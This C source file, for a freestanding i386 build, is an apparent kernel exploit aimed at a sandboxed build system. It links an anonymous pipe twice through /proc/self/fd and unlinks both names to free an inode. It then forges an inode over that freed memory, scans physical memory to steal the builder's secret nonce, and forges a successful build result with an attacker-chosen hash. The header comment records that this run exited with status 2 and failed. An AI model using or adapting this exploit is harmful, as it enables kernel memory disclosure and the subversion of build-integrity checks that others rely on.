/* Wins: a hash that the builder chose is believed, and the run ends as a success
   Verdict: fails ended with status 2 \[exit\]

   A pipe without a name is given two names through /proc/self/fd, and both are taken away: a kernel whose pipes share one node that it never made frees that
   node. Then the builder puts a description of its own making over it, which reads all memory (the nonce), writes to the result channel, and ends the machine.
   Ends with 2 where no name can be had. Static, freestanding: any C compiler for i386, -nostdlib. */

typedef unsigned u32;

int sys(int number, ...);

asm(".text\n.globl sys\nsys:\n\tpush %ebx\n\tpush %esi\n\tpush %edi\n\tpush %ebp\n\tmov 20(%esp), %eax\n\tmov 24(%esp), %ebx\n\tmov 28(%esp), %ecx\n\tmov 32(%esp), %edx\n"
    "\tmov 36(%esp), %esi\n\tmov 40(%esp), %edi\n\tmov 44(%esp), %ebp\n\tint $0x80\n\tpop %ebp\n\tpop %edi\n\tpop %esi\n\tpop %ebx\n\tret\n"
    ".globl _start\n_start:\n\tcall forge\n");

enum { EXIT = 1, READ = 3, WRITE = 4, OPEN = 5, LINK = 9, UNLINK = 10, PIPE = 42, MMAP2 = 192, FSTAT64 = 197, LINKAT = 303 };

static char page[4096], line[400], nonce[33];
static u32 used;

static void add(const char *s)
{
	while (*s)
		line[used++] = *s++;
}

static int hex(char c)
{
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
}

void forge(void)
{
	static char first[] = "/proc/self/fd/3";
	static const char begin[] = "(begin \"";
	volatile u32 *file = (u32 *)0x1180, *node = (u32 *)0x1200, *slots = (u32 *)0x1300;
	int fd[2], bad, i, k;
	u32 status[40], physical;

	if (sys(PIPE, fd))
		sys(EXIT, 1);
	first[14] = '0' + fd[0];
	if ((sys(LINK, first, "x1") && sys(LINKAT, -100, first, -100, "x1", 0x400)) || (sys(LINK, first, "x2") && sys(LINKAT, -100, first, -100, "x2", 0x400)))
		sys(EXIT, 2);
	if (sys(MMAP2, 0x1000, 4096, 3, 0x32, -1, 0) != 0x1000)
		sys(EXIT, 3);
	*(volatile u32 *)0x1000 = 1; /* touched, so that the kernel can use it */
	sys(UNLINK, "x1");
	sys(UNLINK, "x2");              /* the node is free */
	sys(FSTAT64, fd[0], status);    /* and its first word is now 0x1180 */
	sys(OPEN, "/dev/null", 2, 0);   /* lies in the node */
	bad = sys(OPEN, "/dev/null", 2, 0);
	if (!file[0] || bad < 0)
		sys(EXIT, 3);
	node[0] = 0100666;              /* a regular file */
	node[13] = 4096;                /* size */
	node[14] = 0;
	node[15] = (u32)slots;          /* its pages */
	node[16] = 0;
	node[17] = 1;
	file[0] = (u32)node;
	file[1] = 0;
	file[2] = 2;
	for (physical = 0xe00000; physical < 0x10000000 && !nonce[0]; physical += 4096) {
		slots[0] = 0x80000000u + physical;
		file[4] = file[5] = 0;  /* offset */
		if (sys(READ, bad, page, 4096) != 4096)
			continue;
		for (i = 0; i < 4096 - 48; i++) {
			for (k = 0; begin[k] && page[i + k] == begin[k]; k++)
				;
			if (begin[k])
				continue;
			for (k = 0; k < 32 && hex(page[i + 8 + k]); k++)
				;
			if (k == 32 && page[i + 40] == '"')
				for (k = 0; k < 32; k++)
					nonce[k] = page[i + 8 + k];
		}
	}
	add("(output \"");
	add(nonce);
	add("\" 1 \"out\" \"sha256\" \"64fd28a0675e305bd9b02b490689dab5755c8ea5a233b374e55e3a2d7cc5d714\" 152 ())\n(done \"");
	add(nonce);
	add("\")\n");
	node[0] = 0020666;              /* a character device: the result channel */
	node[6] = 0x441;
	sys(WRITE, bad, line, used);
	node[6] = 0x104;                /* the ports: the machine's end, as a success */
	file[4] = 0xf4;
	file[5] = 0;
	sys(WRITE, bad, "1", 1);
	sys(EXIT, 5);
}
